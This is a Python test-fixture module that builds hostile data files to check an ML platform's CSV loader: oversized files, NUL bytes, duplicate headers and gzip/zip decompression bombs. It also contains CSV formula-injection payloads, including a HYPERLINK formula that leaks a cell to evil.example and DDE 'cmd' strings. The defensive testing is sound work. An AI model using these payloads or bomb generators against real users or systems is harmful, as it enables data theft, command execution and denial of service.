"""Hostile data files: the data layer's bad deliveries plus the ones this corpus adds.

``FILE_CASES`` and ``CHECK_CASES`` are the tables ``test_bad_input.py`` runs through the data
stage (a day's file re-delivered broken; see its module docstring for what must hold): the cases
of ``bad_deliveries`` as they are, and new ones in the same form. ``LOADER_CASES`` are files the
loader must refuse quickly and in bounded memory (``test_bad_input_corpus_files.py``).
"""

from __future__ import annotations

import gzip
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd

from mlplatform.datasets.csv_source import DEFAULT_MAX_FILE_BYTES
from mlplatform_tests import bad_deliveries
from mlplatform_tests.bad_deliveries import BAD_ROWS, ROWS_SAID, Case, write_csv

GIB = 1024**3
# Formula-injection payloads (OWASP "CSV injection"): a spreadsheet opening the file would run
# them. The platform never evaluates a cell; where the column's type or domain excludes them
# they fail a blocking check, and elsewhere they stay inert text (test_bad_input_corpus_files).
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0")


def _set(column: str, *values) -> Callable[[pd.DataFrame, Path], None]:
    """The day with ``column`` of the rows in BAD_ROWS set to ``values`` (in turn)."""
    return bad_deliveries._set(column, *values)


def _one_gigabyte(frame: pd.DataFrame, path: Path) -> None:
    # Good rows, then a sparse hole up to 1 GiB: instant to create, no disk space used.
    write_csv(frame, path)
    os.truncate(path, GIB)


def _nul_byte_after_the_sniffed_head(frame: pd.DataFrame, path: Path) -> None:
    lines = frame.to_csv(index=False).splitlines()
    # Line 501 of the file is far beyond the first 8 KB the loader sniffs for binary data; the
    # parser would read "5<NUL>8" as 5.
    lines[500] = lines[500].replace(",", ",\x00", 1)
    path.write_text("\n".join(lines) + "\n")


def _column_named_twice(frame: pd.DataFrame, path: Path) -> None:
    write_csv(frame.assign(extra=frame["tenure_months"] + 100), path)
    text = path.read_text()
    header, rest = text.split("\n", 1)
    path.write_text(header.replace(",extra", ",tenure_months") + "\n" + rest)


FILE_CASES: dict[str, Case] = {
    **bad_deliveries.FILE_CASES,
    "one_gigabyte_file": Case(
        _one_gigabyte,
        None,
        (
            f"the file is {GIB} bytes (1024.0 MiB), over the limit of {DEFAULT_MAX_FILE_BYTES}",
            "source.max_file_bytes",
        ),
    ),
    "nul_byte_after_the_first_8_kb": Case(
        _nul_byte_after_the_sniffed_head,
        None,
        ("not CSV text: NUL byte at byte offset", "line 501"),
    ),
    "column_named_twice_in_header": Case(
        _column_named_twice, None, ("the header names column(s) tenure_months more than once",)
    ),
}
CHECK_CASES: dict[str, Case] = {
    **bad_deliveries.CHECK_CASES,
    "formula_injection_in_strict_category": Case(
        _set("contract_type", FORMULAS[0], FORMULAS[1], "+cmd|' /C calc'!A0"),
        "categories",
        ("column=contract_type", ROWS_SAID, "=HYPERLINK"),
    ),
    "formula_injection_in_integer_column": Case(
        _set("tenure_months", "=1+2", "=A1*10", "@SUM(A1:A9)"),
        "schema",
        ("column 'tenure_months'", "not of type integer", f"at {ROWS_SAID}", "=1+2"),
    ),
    "integer_beyond_64_bits": Case(
        _set("tenure_months", 10**30, 2**64, -(2**70)),
        "schema",
        ("column 'tenure_months'", "not of type integer", f"at {ROWS_SAID}", str(10**30)),
    ),
    "infinity_in_float_column": Case(
        _set("monthly_spend", "inf", "-Infinity", "Infinity"),
        "ranges",
        ("column=monthly_spend", ROWS_SAID, "inf"),
    ),
    "impossible_dates": Case(
        _set("signup_date", "0000-00-00", "2026-02-30", "9999-99-99"),
        "schema",
        ("column 'signup_date'", "not of type date", f"at {ROWS_SAID}", "2026-02-30"),
    ),
}
assert len(BAD_ROWS) == 3  # each _set above gives three values


@dataclass(frozen=True)
class LoaderCase:
    """A file the loader must refuse before parsing it.

    Attributes:
        name: The file's name (its suffix picks the decompression).
        write: Writes the file; gets the path and the good CSV text of one day.
        says: Fragments of the SourceError message, besides the file's path.
        source: Spec ``source`` settings besides kind and path.
    """

    name: str
    write: Callable[[Path, str], None]
    says: tuple[str, ...]
    source: dict = field(default_factory=dict)


def _gzip_bomb(path: Path, good: str) -> None:
    # 1 GiB of rows from 1 MiB compressed once and repeated as gzip members (a valid gzip
    # stream): building it costs milliseconds, reading it all would cost gigabytes.
    header, first_row = good.split("\n")[:2]
    rows = (first_row + "\n").encode() * (2**20 // (len(first_row) + 1))
    member = gzip.compress(rows, compresslevel=9)
    with path.open("wb") as out:
        out.write(gzip.compress((header + "\n").encode()))
        for _ in range(GIB // len(rows)):
            out.write(member)


def _corrupt_gzip(path: Path, good: str) -> None:
    data = bytearray(gzip.compress(good.encode()))
    data[len(data) // 2 : len(data) // 2 + 16] = b"\xff" * 16
    path.write_bytes(bytes(data))


def _two_megabytes(path: Path, good: str) -> None:
    header, body = good.split("\n", 1)
    path.write_text(header + "\n" + body * (2 * 2**20 // len(body) + 1))


def _zip_bomb(path: Path, good: str) -> None:
    header, first_row = good.split("\n")[:2]
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        with archive.open("day.csv", "w", force_zip64=True) as member:
            member.write((header + "\n").encode())
            rows = (first_row + "\n").encode() * (2**20 // (len(first_row) + 1))
            for _ in range(8):  # 8 MiB, against a limit of 1 MiB
                member.write(rows)


LOADER_CASES: dict[str, LoaderCase] = {
    "gzip_bomb_of_1_gib": LoaderCase(
        "day.csv.gz",
        _gzip_bomb,
        ("decompresses to at least", f"over the limit of {DEFAULT_MAX_FILE_BYTES} bytes"),
    ),
    "zip_expanding_over_a_configured_limit": LoaderCase(
        "day.csv.zip",
        _zip_bomb,
        ("decompresses to at least", "over the limit of 1048576 bytes"),
        {"max_file_bytes": 2**20},
    ),
    "corrupt_gzip": LoaderCase("day.csv.gz", _corrupt_gzip, ("cannot decompress",)),
    "file_over_a_configured_limit": LoaderCase(
        "day.csv",
        _two_megabytes,
        ("over the limit of 1048576 bytes (1.0 MiB)", "source.max_file_bytes"),
        {"max_file_bytes": 2**20},
    ),
}
